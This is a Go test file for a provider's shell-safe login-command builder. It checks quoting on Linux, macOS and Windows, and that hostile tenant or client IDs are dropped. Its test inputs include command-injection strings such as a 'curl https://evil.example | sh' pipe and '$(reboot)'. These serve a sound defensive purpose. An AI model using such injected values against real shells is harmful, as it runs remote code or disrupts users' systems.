package explain

import (
	"strings"
	"testing"

	"github.com/graph-data/terraform-provider-graph/internal/session"
)

// A command can be pasted into the shell of the platform.
func TestCommandLine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ system, program, argument, want string }{
		{"linux", "/opt/provider", "contoso.com", "/opt/provider login contoso.com"},
		{"darwin", "/Users/Ada L/provider", "", "'/Users/Ada L/provider' login ''"},
		{"linux", "/opt/it's", "a;b", `'/opt/it'\''s' login 'a;b'`},
		{"linux", `/opt/a\b`, "$(x)", `'/opt/a\b' login '$(x)'`},
		{"windows", `C:\provider.exe`, "a,b", `C:\provider.exe login 'a,b'`},
		{"windows", `C:\Users\Ada L\provider.exe`, "it's", `& 'C:\Users\Ada L\provider.exe' login 'it''s'`},
	} {
		if got := commandLine(c.system, []string{c.program, "login", c.argument}); got != c.want {
			t.Errorf("%s: command = %s, want %s", c.system, got, c.want)
		}
	}
}

// What can be no tenant and no application is not proposed to a shell.
func TestLoginCommand_hostile(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"contoso.com; curl https://evil.example | sh #", "$(reboot)", "`reboot`", "-all", "a b", "a'b", "a\nb", "a\x1b[2J",
	} {
		got := LoginCommand(session.Session{TenantID: text, ClientID: text})
		if strings.Contains(got, text) || !strings.HasSuffix(got, " login -client-id YOUR_APPLICATION") {
			t.Errorf("command for %q = %s, want it without the text", text, got)
		}
	}
	got := LoginCommand(session.Session{TenantID: "contoso.com", ClientID: "00000000-1111"})
	if !strings.HasSuffix(got, " login -tenant contoso.com -client-id 00000000-1111") {
		t.Errorf("command = %s, want it with tenant and application", got)
	}
}
